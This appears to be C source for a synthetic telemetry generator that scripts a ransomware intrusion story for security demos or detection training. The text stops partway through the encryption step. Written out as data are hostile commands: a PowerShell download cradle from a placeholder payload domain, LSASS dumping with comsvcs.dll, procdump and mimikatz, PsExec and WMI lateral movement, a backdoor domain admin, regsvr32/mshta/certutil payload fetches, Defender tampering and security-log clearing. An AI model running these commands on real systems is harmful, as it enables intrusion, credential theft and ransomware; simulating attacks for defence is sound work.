/* Story: human-operated ransomware. A macro mail, an encoded PowerShell cradle,
 * a beacon, recon, LSASS dumps, PsExec/WMI lateral movement, tampering, shadow copies, encryption. */
#include "demo_int.h"

#include <stdio.h>

typedef struct rw {
    demo_ctx *c;
    demo_rng r;
    demo_story *s;
    int user, dev, admin, fs, app, backup;
    const char *sam, *admin_sam;
    const char *beacon_dir;
    const char *beacon_sha, *locker_sha;
    const char *nmid;
} rw;

static const char *dev_ip(const rw *w, int dev) { return w->c->org.devices[dev].local_ip; }
static const char *dev_name(const rw *w, int dev) { return w->c->org.devices[dev].name; }

/* A process on a Windows server also lands in SecurityEvent 4688. */
static void proc(rw *w, const dm_proc *p) {
    demo_ctx *c = w->c;
    demo_proc(c, p);
    const demo_device *d = &c->org.devices[p->dev];
    if (d->kind != DEV_SERVER) return;
    const demo_bin *b = demo_bin_find(p->file);
    const demo_bin *pb = p->parent ? demo_bin_find(p->parent) : NULL;
    char path[400], ppath[400];
    snprintf(path, sizeof path, "%s\\%s", p->dir ? p->dir : b ? b->dir : "C:\\Windows\\System32", p->file);
    snprintf(ppath, sizeof ppath, "%s\\%s", p->parent_dir ? p->parent_dir : pb ? pb->dir : "C:\\Windows\\System32",
             p->parent ? p->parent : "explorer.exe");
    demo_secev(c, &(dm_secev){.t = p->t, .dev = p->dev, .id = 4688, .user = p->user,
                              .account = p->user < 0 ? demo_tmpf(c, "%s\\%.15s$", DEMO_NETBIOS, d->name) : NULL,
                              .process = path, .parent = ppath, .cmd = p->cmd});
}

static const char *enc(rw *w, const char *script) { return demo_ps_encode(w->c, script); }

/* Beacon traffic: every 15 minutes or so from `from` until `until`. */
static void beacon(rw *w, int dev, int user, const char *image_dir, int64_t from, int64_t until) {
    demo_ctx *c = w->c;
    const demo_device *d = &c->org.devices[dev];
    for (int64_t t = from; t < until; t += (int64_t)demo_rng_range(&w->r, 780, 1020) * DEMO_SEC) {
        demo_net(c, &(dm_net){.t = t, .dev = dev, .user = user, .rip = IOC_RW_C2_IP, .rport = 443,
                              .url = IOC_RW_C2_DOMAIN, .proc = IOC_RW_BEACON, .proc_dir = image_dir,
                              .proc_sha256 = w->beacon_sha});
        demo_cef(c, &(dm_cef){.t = t + 40 * SP_TICKS_PER_MS, .office = d->office == OFF_REMOTE ? OFF_CHICAGO : d->office,
                              .src = d->local_ip, .dst = IOC_RW_C2_IP, .dport = 443, .app = "ssl",
                              .url = IOC_RW_C2_DOMAIN, .sent = demo_rng_range(&w->r, 900, 4200),
                              .received = demo_rng_range(&w->r, 300, 2400), .dir = "Outbound"});
    }
}

static void initial_access(rw *w) {
    demo_ctx *c = w->c;
    const demo_plan *p = &c->plan;
    int64_t t0 = p->rw_initial;
    const demo_user *u = &c->org.users[w->user];
    /* The helpdesk admin had signed in to this laptop a day earlier: cached credentials. */
    demo_logon(c, &(dm_logon){.t = t0 - 26 * DEMO_HOUR, .dev = w->dev, .user = w->admin, .type = "RemoteInteractive",
                              .rip = dev_ip(w, c->org.mgmt1), .rdev = dev_name(w, c->org.mgmt1), .local_admin = true});
    dm_email e = {.t = t0, .to = w->user, .from = -1, .from_addr = IOC_RW_SENDER,
                  .from_display = "Northwind Traders Accounts", .sender_ip = IOC_RW_SENDER_IP,
                  .subject = "Remittance advice 4471 - payment sent",
                  .att = {{.name = IOC_RW_ATTACHMENT, .type = "xlsm", .size = 48640}}, .natt = 1,
                  .confidence = "{\"Phish\":null,\"Spam\":\"Normal\"}"};
    w->nmid = demo_strf(c, "%s", demo_email(c, &w->r, &e));
    demo_story_event(c, w->s, t0, "EmailEvents", "macro-enabled remittance advice delivered");
    const char *cache = "C:\\Users\\%USER%\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\9XQ2JH1B";
    demo_file(c, &(dm_file){.t = t0 + 3 * DEMO_MIN, .dev = w->dev, .user = w->user, .name = IOC_RW_ATTACHMENT,
                            .dir = cache, .size = 48640, .proc = "OUTLOOK.EXE"});
    demo_proc(c, &(dm_proc){.t = t0 + 3 * DEMO_MIN + 4 * DEMO_SEC, .dev = w->dev, .user = w->user, .file = "EXCEL.EXE",
                            .cmd = demo_strf(c, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\9XQ2JH1B\\%s\"", w->sam, IOC_RW_ATTACHMENT),
                            .parent = "OUTLOOK.EXE"});
    const char *cradle = "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1')";
    const char *ps_cmd = demo_strf(c, "powershell.exe -nop -w hidden -enc %s", enc(w, cradle));
    int64_t tx = t0 + 3 * DEMO_MIN + 51 * DEMO_SEC;
    demo_proc(c, &(dm_proc){.t = tx, .dev = w->dev, .user = w->user, .file = "cmd.exe",
                            .cmd = demo_strf(c, "cmd.exe /c %s", ps_cmd), .parent = "EXCEL.EXE",
                            .grandparent = "OUTLOOK.EXE"});
    demo_proc(c, &(dm_proc){.t = tx + 1 * DEMO_SEC, .dev = w->dev, .user = w->user, .file = "powershell.exe",
                            .cmd = ps_cmd, .parent = "cmd.exe", .parent_cmd = demo_strf(c, "cmd.exe /c %s", ps_cmd),
                            .grandparent = "EXCEL.EXE"});
    demo_story_event(c, w->s, tx + DEMO_SEC, "DeviceProcessEvents", "EXCEL.EXE -> cmd.exe -> powershell.exe -enc download cradle");
    demo_net(c, &(dm_net){.t = tx + 3 * DEMO_SEC, .dev = w->dev, .user = w->user, .rip = IOC_RW_PAYLOAD_IP, .rport = 80,
                          .url = "http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1", .proc = "powershell.exe", .proc_cmd = ps_cmd});
    demo_cef(c, &(dm_cef){.t = tx + 3 * DEMO_SEC, .office = u->office, .src = dev_ip(w, w->dev), .dst = IOC_RW_PAYLOAD_IP,
                          .dport = 80, .app = "web-browsing", .url = "http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1",
                          .user = demo_strf(c, "contoso\\%s", w->sam), .sent = 412, .received = 5120, .dir = "Outbound"});
    demo_file(c, &(dm_file){.t = tx + 4 * DEMO_SEC, .dev = w->dev, .user = w->user, .name = "ld.ps1",
                            .dir = "C:\\Users\\%USER%\\AppData\\Local\\Temp", .size = 5120,
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1", .proc = "powershell.exe", .proc_cmd = ps_cmd});
    demo_net(c, &(dm_net){.t = tx + 20 * DEMO_SEC, .dev = w->dev, .user = w->user, .rip = IOC_RW_PAYLOAD_IP, .rport = 80,
                          .url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/" IOC_RW_BEACON, .proc = "powershell.exe", .proc_cmd = ps_cmd});
    demo_file(c, &(dm_file){.t = tx + 24 * DEMO_SEC, .dev = w->dev, .user = w->user, .name = IOC_RW_BEACON,
                            .dir = w->beacon_dir, .sha256 = w->beacon_sha, .size = 1843712,
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/" IOC_RW_BEACON, .origin_ip = IOC_RW_PAYLOAD_IP,
                            .proc = "powershell.exe", .proc_cmd = ps_cmd});
    int64_t tb = tx + 31 * DEMO_SEC;
    demo_proc(c, &(dm_proc){.t = tb, .dev = w->dev, .user = w->user, .file = IOC_RW_BEACON, .dir = w->beacon_dir,
                            .sha256 = w->beacon_sha, .cmd = demo_strf(c, "\"%s\\%s\"", w->beacon_dir, IOC_RW_BEACON),
                            .parent = "powershell.exe", .parent_cmd = ps_cmd});
    demo_story_event(c, w->s, tb, "DeviceProcessEvents", "beacon OneDriveUpdater.exe runs from C:\\Users\\Public\\Libraries");
    /* persistence: Run key and a Startup shortcut */
    demo_reg(c, &(dm_reg){.t = tb + 40 * DEMO_SEC, .dev = w->dev, .user = w->user,
                          .key = demo_strf(c, "HKEY_CURRENT_USER\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", u->sid),
                          .name = "OneDriveUpdate", .data = demo_strf(c, "%s\\%s", w->beacon_dir, IOC_RW_BEACON),
                          .proc = "powershell.exe", .proc_cmd = ps_cmd});
    demo_file(c, &(dm_file){.t = tb + 44 * DEMO_SEC, .dev = w->dev, .user = w->user, .name = "OneDrive Updater.lnk",
                            .dir = "C:\\Users\\%USER%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
                            .size = 1403, .proc = "powershell.exe", .proc_cmd = ps_cmd});
    demo_story_event(c, w->s, tb + 40 * DEMO_SEC, "DeviceRegistryEvents", "Run key OneDriveUpdate persists the beacon");
}

static void recon_and_dump(rw *w) {
    demo_ctx *c = w->c;
    int64_t t = w->c->plan.rw_initial + 28 * DEMO_MIN;
    const char *bcmd = demo_strf(c, "\"%s\\%s\"", w->beacon_dir, IOC_RW_BEACON);
    /* a reverse shell to the operator */
    for (int k = 0; k < 3; k++)
        demo_net(c, &(dm_net){.t = t - 3 * DEMO_MIN + k * 40 * DEMO_SEC, .dev = w->dev, .user = w->user,
                              .rip = IOC_RW_SHELL_IP, .rport = 4444, .proc = IOC_RW_BEACON, .proc_dir = w->beacon_dir,
                              .proc_sha256 = w->beacon_sha, .action = k == 0 ? "ConnectionFailed" : NULL});
    static const char *const RECON[][3] = {
        {"whoami.exe", "whoami  /all", NULL},
        {"net.exe", "net  user /domain", "net1.exe"},
        {"net.exe", "net  group \"domain admins\" /domain", "net1.exe"},
        {"nltest.exe", "nltest  /dclist:corp.contoso.com", NULL},
        {"nltest.exe", "nltest  /domain_trusts /all_trusts", NULL},
        {"ipconfig.exe", "ipconfig  /all", NULL},
        {"systeminfo.exe", "systeminfo", NULL},
        {"quser.exe", "quser", NULL},
        {"net.exe", "net  localgroup administrators", "net1.exe"},
        {"tasklist.exe", "tasklist  /v", NULL},
    };
    demo_proc(c, &(dm_proc){.t = t, .dev = w->dev, .user = w->user, .file = "cmd.exe", .cmd = "C:\\Windows\\system32\\cmd.exe",
                            .parent = IOC_RW_BEACON, .parent_dir = w->beacon_dir, .parent_cmd = bcmd, .signature = "Unsigned"});
    for (size_t k = 0; k < SP_ARRAY_LEN(RECON); k++) {
        int64_t tk = t + (int64_t)(k + 1) * 41 * DEMO_SEC;
        demo_proc(c, &(dm_proc){.t = tk, .dev = w->dev, .user = w->user, .file = RECON[k][0], .cmd = RECON[k][1],
                                .parent = "cmd.exe", .parent_cmd = "C:\\Windows\\system32\\cmd.exe", .grandparent = IOC_RW_BEACON});
        if (RECON[k][2])
            demo_proc(c, &(dm_proc){.t = tk + 50 * SP_TICKS_PER_MS, .dev = w->dev, .user = w->user, .file = "net1.exe",
                                    .cmd = demo_tmpf(c, "C:\\Windows\\system32\\net1 %s", strchr(RECON[k][1], ' ') + 2),
                                    .parent = "net.exe", .parent_cmd = RECON[k][1], .grandparent = "cmd.exe"});
    }
    demo_story_event(c, w->s, t, "DeviceProcessEvents", "recon burst: whoami, net, nltest, ipconfig, systeminfo, quser");
    /* LSASS dump with comsvcs.dll, elevated */
    int64_t td = w->c->plan.rw_initial + 41 * DEMO_MIN;
    const char *dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 748 C:\\Users\\Public\\Libraries\\lsass.dmp full";
    demo_proc(c, &(dm_proc){.t = td, .dev = w->dev, .user = w->user, .file = "rundll32.exe", .cmd = dump,
                            .parent = "cmd.exe", .grandparent = IOC_RW_BEACON, .integrity = "High"});
    demo_devev(c, &(dm_devev){.t = td + DEMO_SEC, .dev = w->dev, .user = w->user, .action = "OpenProcessApiCall",
                              .file = "lsass.exe", .dir = "C:\\Windows\\System32", .proc = "rundll32.exe", .proc_cmd = dump,
                              .fields = "{\"DesiredAccess\":2097151}"});
    demo_file(c, &(dm_file){.t = td + 3 * DEMO_SEC, .dev = w->dev, .user = w->user, .name = "lsass.dmp",
                            .dir = "C:\\Users\\Public\\Libraries", .size = 48234496, .proc = "rundll32.exe", .proc_cmd = dump});
    demo_story_event(c, w->s, td, "DeviceProcessEvents", "LSASS dumped with comsvcs.dll MiniDump");
}

static void lateral(rw *w) {
    demo_ctx *c = w->c;
    const demo_org *o = &c->org;
    int64_t L = c->plan.rw_lateral;
    const char *srv_beacon_cmd = demo_strf(c, "powershell.exe -nop -w hidden -enc %s",
                                           enc(w, "IEX (New-Object Net.WebClient).DownloadString('http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1')"));
    const char *bcmd = demo_strf(c, "\"%s\\%s\"", w->beacon_dir, IOC_RW_BEACON);
    /* encoded PowerShell from the beacon on patient zero: AD enumeration */
    static const char *const SCRIPTS[] = {
        "Get-ADComputer -Filter * -Properties OperatingSystem | Select Name,OperatingSystem | Export-Csv C:\\Users\\Public\\Libraries\\c.csv",
        "Get-ADGroupMember 'Domain Admins' | Select SamAccountName",
        "Get-SmbShare -CimSession srv-fs01 | Select Name,Path",
        "Test-NetConnection srv-fs01 -Port 445; Test-NetConnection srv-app01 -Port 135",
    };
    for (size_t k = 0; k < SP_ARRAY_LEN(SCRIPTS); k++)
        demo_proc(c, &(dm_proc){.t = L - 20 * DEMO_MIN + (int64_t)k * 4 * DEMO_MIN, .dev = w->dev, .user = w->user,
                                .file = "powershell.exe",
                                .cmd = demo_strf(c, "powershell.exe -nop -w hidden -ep bypass -enc %s", enc(w, SCRIPTS[k])),
                                .parent = IOC_RW_BEACON, .parent_dir = w->beacon_dir, .parent_cmd = bcmd, .signature = "Unsigned"});
    /* tools arrive */
    demo_file(c, &(dm_file){.t = L - 2 * DEMO_MIN, .dev = w->dev, .user = w->user, .name = "PsExec64.exe",
                            .dir = w->beacon_dir, .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/PsExec64.exe",
                            .origin_ip = IOC_RW_PAYLOAD_IP, .size = 833472, .proc = IOC_RW_BEACON, .proc_dir = w->beacon_dir});
    /* PsExec to the file server with the helpdesk admin's stolen credentials */
    const char *psx = demo_strf(c, "PsExec64.exe \\\\srv-fs01 -accepteula -u CONTOSO\\%s -p ******** -s -d cmd.exe /c \"%s\"",
                                w->admin_sam, srv_beacon_cmd);
    demo_proc(c, &(dm_proc){.t = L, .dev = w->dev, .user = w->user, .file = "PsExec64.exe", .dir = w->beacon_dir, .cmd = psx,
                            .parent = "cmd.exe", .grandparent = IOC_RW_BEACON, .integrity = "High"});
    demo_net(c, &(dm_net){.t = L + DEMO_SEC, .dev = w->dev, .user = w->user, .rip = dev_ip(w, w->fs), .rport = 445,
                          .proc = "PsExec64.exe", .proc_dir = w->beacon_dir, .proc_cmd = psx});
    demo_logon(c, &(dm_logon){.t = L + 2 * DEMO_SEC, .dev = w->fs, .user = w->admin, .type = "Network", .protocol = "NTLM",
                              .rip = dev_ip(w, w->dev), .rdev = dev_name(w, w->dev), .local_admin = true});
    demo_secev(c, &(dm_secev){.t = L + 2 * DEMO_SEC, .dev = w->fs, .id = 4624, .user = w->admin, .logon_type = 3,
                              .ip = dev_ip(w, w->dev), .workstation = dev_name(w, w->dev), .auth_package = "NTLM"});
    demo_secev(c, &(dm_secev){.t = L + 2 * DEMO_SEC, .dev = w->fs, .id = 4672, .user = w->admin});
    demo_file(c, &(dm_file){.t = L + 3 * DEMO_SEC, .dev = w->fs, .user = -1, .name = "PSEXESVC.exe", .dir = "C:\\Windows",
                            .size = 200352, .proc = "System", .proc_dir = "", .req_proto = "SMB",
                            .req_ip = dev_ip(w, w->dev), .req_account = w->admin_sam, .share = "ADMIN$"});
    demo_secev(c, &(dm_secev){.t = L + 4 * DEMO_SEC, .dev = w->fs, .id = 4697, .user = w->admin,
                              .service_name = "PSEXESVC", .service_file = "%SystemRoot%\\PSEXESVC.exe"});
    proc(w, &(dm_proc){.t = L + 5 * DEMO_SEC, .dev = w->fs, .user = -1, .file = "PSEXESVC.exe", .dir = "C:\\Windows",
                       .cmd = "C:\\Windows\\PSEXESVC.exe", .parent = "services.exe"});
    proc(w, &(dm_proc){.t = L + 6 * DEMO_SEC, .dev = w->fs, .user = -1, .file = "cmd.exe",
                       .cmd = demo_strf(c, "cmd.exe /c \"%s\"", srv_beacon_cmd), .parent = "PSEXESVC.exe", .parent_dir = "C:\\Windows"});
    proc(w, &(dm_proc){.t = L + 7 * DEMO_SEC, .dev = w->fs, .user = -1, .file = "powershell.exe", .cmd = srv_beacon_cmd,
                       .parent = "cmd.exe", .grandparent = "PSEXESVC.exe"});
    demo_story_event(c, w->s, L, "DeviceProcessEvents", "PsExec64 to srv-fs01 with the helpdesk admin's credentials");
    demo_file(c, &(dm_file){.t = L + 12 * DEMO_SEC, .dev = w->fs, .user = -1, .name = IOC_RW_BEACON, .dir = w->beacon_dir,
                            .sha256 = w->beacon_sha, .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/" IOC_RW_BEACON,
                            .origin_ip = IOC_RW_PAYLOAD_IP, .size = 1843712, .proc = "powershell.exe", .proc_cmd = srv_beacon_cmd});
    proc(w, &(dm_proc){.t = L + 15 * DEMO_SEC, .dev = w->fs, .user = -1, .file = IOC_RW_BEACON, .dir = w->beacon_dir,
                       .sha256 = w->beacon_sha, .cmd = bcmd, .parent = "powershell.exe"});
    beacon(w, w->fs, -1, w->beacon_dir, L + 16 * DEMO_SEC, c->plan.rw_encrypt + 58 * DEMO_MIN);

    /* credential theft on the file server */
    int64_t m = L + 20 * DEMO_MIN;
    demo_file(c, &(dm_file){.t = m - 30 * DEMO_SEC, .dev = w->fs, .user = -1, .name = "mimikatz.exe", .dir = "C:\\Windows\\Temp",
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/m64.exe", .origin_ip = IOC_RW_PAYLOAD_IP,
                            .size = 1355680, .proc = IOC_RW_BEACON, .proc_dir = w->beacon_dir});
    const char *mk = "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"lsadump::sam\" exit";
    proc(w, &(dm_proc){.t = m, .dev = w->fs, .user = -1, .file = "mimikatz.exe", .dir = "C:\\Windows\\Temp", .cmd = mk,
                       .parent = "cmd.exe", .grandparent = IOC_RW_BEACON, .integrity = "System"});
    demo_secev(c, &(dm_secev){.t = m + DEMO_SEC, .dev = w->fs, .id = 4656, .user = -1,
                              .account = demo_tmpf(c, "%s\\SRV-FS01$", DEMO_NETBIOS), .object_type = "Process",
                              .object = "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", .access_mask = "0x1010",
                              .process = "C:\\Windows\\Temp\\mimikatz.exe"});
    demo_secev(c, &(dm_secev){.t = m + 2 * DEMO_SEC, .dev = w->fs, .id = 4663, .user = -1,
                              .account = demo_tmpf(c, "%s\\SRV-FS01$", DEMO_NETBIOS), .object_type = "Process",
                              .object = "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", .access_mask = "0x10",
                              .process = "C:\\Windows\\Temp\\mimikatz.exe"});
    demo_file(c, &(dm_file){.t = m + 3 * DEMO_MIN, .dev = w->fs, .user = -1, .name = "procdump64.exe", .dir = "C:\\Windows\\Temp",
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/procdump64.exe", .origin_ip = IOC_RW_PAYLOAD_IP,
                            .size = 424856, .proc = IOC_RW_BEACON, .proc_dir = w->beacon_dir});
    proc(w, &(dm_proc){.t = m + 4 * DEMO_MIN, .dev = w->fs, .user = -1, .file = "procdump64.exe", .dir = "C:\\Windows\\Temp",
                       .cmd = "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp", .parent = "cmd.exe",
                       .integrity = "System"});
    proc(w, &(dm_proc){.t = m + 9 * DEMO_MIN, .dev = w->fs, .user = -1, .file = "mimikatz.exe", .dir = "C:\\Windows\\Temp",
                       .cmd = "mimikatz.exe \"kerberos::ptt C:\\Windows\\Temp\\adm.kirbi\" \"misc::cmd\" exit", .parent = "cmd.exe",
                       .integrity = "System"});
    demo_story_event(c, w->s, m, "DeviceProcessEvents", "mimikatz sekurlsa::logonpasswords on srv-fs01");

    /* WMI to the application server, a second dump there */
    int64_t wm = L + 40 * DEMO_MIN;
    const char *wcmd = demo_strf(c, "wmic.exe /node:srv-app01 process call create \"%s\"", srv_beacon_cmd);
    proc(w, &(dm_proc){.t = wm, .dev = w->fs, .user = w->admin, .file = "WMIC.exe", .cmd = wcmd, .parent = "cmd.exe",
                       .integrity = "High"});
    demo_logon(c, &(dm_logon){.t = wm + DEMO_SEC, .dev = w->app, .user = w->admin, .type = "Network", .protocol = "Kerberos",
                              .rip = dev_ip(w, w->fs), .rdev = dev_name(w, w->fs), .local_admin = true});
    proc(w, &(dm_proc){.t = wm + 2 * DEMO_SEC, .dev = w->app, .user = w->admin, .file = "powershell.exe", .cmd = srv_beacon_cmd,
                       .parent = "WmiPrvSE.exe", .parent_cmd = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                       .integrity = "High"});
    demo_file(c, &(dm_file){.t = wm + 6 * DEMO_MIN, .dev = w->app, .user = w->admin, .name = "procdump.exe", .dir = "C:\\Windows\\Temp",
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/procdump.exe", .origin_ip = IOC_RW_PAYLOAD_IP,
                            .size = 424856, .proc = "powershell.exe"});
    proc(w, &(dm_proc){.t = wm + 7 * DEMO_MIN, .dev = w->app, .user = w->admin, .file = "procdump.exe", .dir = "C:\\Windows\\Temp",
                       .cmd = "procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\app.dmp", .parent = "powershell.exe",
                       .integrity = "High"});
    demo_story_event(c, w->s, wm, "DeviceProcessEvents", "WMI process creation on srv-app01; procdump of lsass");

    /* a backdoor domain admin */
    int64_t na = L + 55 * DEMO_MIN;
    static const char *const NET[] = {"net  user svc_sqlbackup Winter2024!! /add /domain",
                                      "net  group \"domain admins\" svc_sqlbackup /add /domain",
                                      "net  localgroup administrators svc_sqlbackup /add"};
    for (int k = 0; k < 3; k++) {
        proc(w, &(dm_proc){.t = na + k * 20 * DEMO_SEC, .dev = w->fs, .user = w->admin, .file = "net.exe", .cmd = NET[k],
                           .parent = "cmd.exe", .integrity = "High"});
        proc(w, &(dm_proc){.t = na + k * 20 * DEMO_SEC + 40 * SP_TICKS_PER_MS, .dev = w->fs, .user = w->admin, .file = "net1.exe",
                           .cmd = demo_tmpf(c, "C:\\Windows\\system32\\net1 %s", NET[k] + 5), .parent = "net.exe",
                           .parent_cmd = NET[k], .integrity = "High"});
    }
    demo_secev(c, &(dm_secev){.t = na + DEMO_SEC, .dev = o->dc1, .id = 4720, .user = w->admin, .target_account = "svc_sqlbackup"});
    demo_secev(c, &(dm_secev){.t = na + 21 * DEMO_SEC, .dev = o->dc1, .id = 4728, .user = w->admin,
                              .member_name = "CN=svc_sqlbackup,CN=Users,DC=corp,DC=contoso,DC=com", .group_name = "Domain Admins"});
    demo_secev(c, &(dm_secev){.t = na + 41 * DEMO_SEC, .dev = w->fs, .id = 4732, .user = w->admin,
                              .member_name = "CONTOSO\\svc_sqlbackup", .group_name = "Administrators"});
    demo_audit(c, &(dm_audit){.t = na + 31 * DEMO_MIN, .op = "Add user", .actor = -1, .actor_app = "Microsoft Azure AD Connect",
                              .target = -1, .target_name = "svc_sqlbackup", .target_type = "User",
                              .target_upn = "svc_sqlbackup@" DEMO_DOMAIN});
    demo_story_event(c, w->s, na, "SecurityEvent", "backdoor account svc_sqlbackup added to Domain Admins");

    /* tooling and living-off-the-land on a second workstation */
    int64_t bt = L + 70 * DEMO_MIN;
    proc(w, &(dm_proc){.t = bt, .dev = w->fs, .user = w->admin, .file = "bitsadmin.exe",
                       .cmd = "bitsadmin  /transfer updjob /download /priority high http://" IOC_RW_PAYLOAD_DOMAIN "/dl/7z.exe C:\\ProgramData\\7z.exe",
                       .parent = "cmd.exe", .integrity = "High"});
    int ws = c->plan.rw_targets[0];
    demo_logon(c, &(dm_logon){.t = bt + 8 * DEMO_MIN, .dev = ws, .user = w->admin, .type = "Network", .protocol = "Kerberos",
                              .rip = dev_ip(w, w->fs), .rdev = dev_name(w, w->fs), .local_admin = true});
    demo_proc(c, &(dm_proc){.t = bt + 9 * DEMO_MIN, .dev = ws, .user = w->admin, .file = "mshta.exe",
                            .cmd = "mshta.exe http://" IOC_RW_PAYLOAD_DOMAIN "/s/upd.hta", .parent = "WmiPrvSE.exe",
                            .integrity = "High"});
    demo_proc(c, &(dm_proc){.t = bt + 10 * DEMO_MIN, .dev = ws, .user = w->admin, .file = "regsvr32.exe",
                            .cmd = "regsvr32.exe /s /n /u /i:http://" IOC_RW_PAYLOAD_DOMAIN "/s/upd.sct scrobj.dll",
                            .parent = "mshta.exe", .integrity = "High"});
    demo_net(c, &(dm_net){.t = bt + 10 * DEMO_MIN + 2 * DEMO_SEC, .dev = ws, .user = w->admin, .rip = IOC_RW_PAYLOAD_IP, .rport = 80,
                          .url = "http://" IOC_RW_PAYLOAD_DOMAIN "/s/upd.sct", .proc = "regsvr32.exe",
                          .proc_cmd = "regsvr32.exe /s /n /u /i:http://" IOC_RW_PAYLOAD_DOMAIN "/s/upd.sct scrobj.dll"});
    demo_file(c, &(dm_file){.t = bt + 11 * DEMO_MIN, .dev = ws, .user = w->admin, .name = "msupdate64.dll",
                            .dir = "C:\\Windows\\System32", .size = 366592, .proc = "regsvr32.exe"});
    const char *r32 = "rundll32.exe C:\\Windows\\System32\\msupdate64.dll,DllRegisterServer";
    demo_proc(c, &(dm_proc){.t = bt + 12 * DEMO_MIN, .dev = ws, .user = w->admin, .file = "rundll32.exe", .cmd = r32,
                            .parent = "regsvr32.exe", .integrity = "High"});
    for (int k = 0; k < 6; k++)
        demo_net(c, &(dm_net){.t = bt + 12 * DEMO_MIN + (int64_t)k * 14 * DEMO_MIN, .dev = ws, .user = w->admin, .rip = IOC_RW_C2_IP,
                              .rport = 443, .url = IOC_RW_C2_DOMAIN, .proc = "rundll32.exe", .proc_cmd = r32});

    /* Defender tampering on the file server */
    int64_t tt = L + 90 * DEMO_MIN;
    static const char *const KEYS[][2] = {
        {"HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware"},
        {"HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection", "DisableRealtimeMonitoring"},
        {"HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection", "DisableBehaviorMonitoring"},
        {"HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection", "DisableIOAVProtection"},
    };
    for (int k = 0; k < 4; k++) {
        const char *cmd = demo_tmpf(c, "reg.exe add \"%s\" /v %s /t REG_DWORD /d 1 /f", KEYS[k][0], KEYS[k][1]);
        proc(w, &(dm_proc){.t = tt + k * 3 * DEMO_SEC, .dev = w->fs, .user = w->admin, .file = "reg.exe", .cmd = cmd,
                           .parent = "cmd.exe", .integrity = "High"});
        demo_reg(c, &(dm_reg){.t = tt + k * 3 * DEMO_SEC + 200 * SP_TICKS_PER_MS, .dev = w->fs, .user = w->admin,
                              .key = KEYS[k][0], .name = KEYS[k][1], .type = "Dword", .data = "1", .proc = "reg.exe",
                              .proc_cmd = cmd});
    }
    proc(w, &(dm_proc){.t = tt + 30 * DEMO_SEC, .dev = w->fs, .user = w->admin, .file = "cmd.exe",
                       .cmd = "cmd.exe /c wevtutil cl Security", .parent = IOC_RW_BEACON, .parent_dir = w->beacon_dir,
                       .integrity = "High"});
    demo_secev(c, &(dm_secev){.t = tt + 31 * DEMO_SEC, .dev = w->fs, .id = 1102, .user = w->admin});
    demo_story_event(c, w->s, tt, "DeviceRegistryEvents", "Defender real-time protection disabled by policy keys");
}

static void encrypt(rw *w) {
    demo_ctx *c = w->c;
    const demo_org *o = &c->org;
    int64_t E = c->plan.rw_encrypt;
    /* the encryptor is fetched onto the file server */
    const char *cu = "certutil.exe -urlcache -split -f http://" IOC_RW_PAYLOAD_DOMAIN "/dl/" IOC_RW_LOCKER " C:\\ProgramData\\" IOC_RW_LOCKER;
    proc(w, &(dm_proc){.t = E - 35 * DEMO_MIN, .dev = w->fs, .user = w->admin, .file = "certutil.exe", .cmd = cu,
                       .parent = "cmd.exe", .integrity = "High"});
    demo_net(c, &(dm_net){.t = E - 35 * DEMO_MIN + DEMO_SEC, .dev = w->fs, .user = w->admin, .rip = IOC_RW_PAYLOAD_IP, .rport = 80,
                          .url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/" IOC_RW_LOCKER, .proc = "certutil.exe", .proc_cmd = cu});
    demo_file(c, &(dm_file){.t = E - 35 * DEMO_MIN + 3 * DEMO_SEC, .dev = w->fs, .user = w->admin, .name = IOC_RW_LOCKER,
                            .dir = "C:\\ProgramData", .sha256 = w->locker_sha, .size = 2211840,
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/" IOC_RW_LOCKER, .origin_ip = IOC_RW_PAYLOAD_IP,
                            .proc = "certutil.exe", .proc_cmd = cu});
    demo_story_event(c, w->s, E - 35 * DEMO_MIN, "DeviceFileEvents", "encryptor svchost64.exe downloaded with certutil");
    /* pushed out with PsExec */
    char list[512] = "";
    for (int k = 0; k < c->plan.nrw_targets; k++) {
        strncat(list, k ? ",\\\\" : "\\\\", sizeof list - strlen(list) - 1);
        strncat(list, dev_name(w, c->plan.rw_targets[k]), sizeof list - strlen(list) - 1);
    }
    const char *push = demo_strf(c, "PsExec.exe %s -accepteula -s -d -c C:\\ProgramData\\%s -n 8", list, IOC_RW_LOCKER);
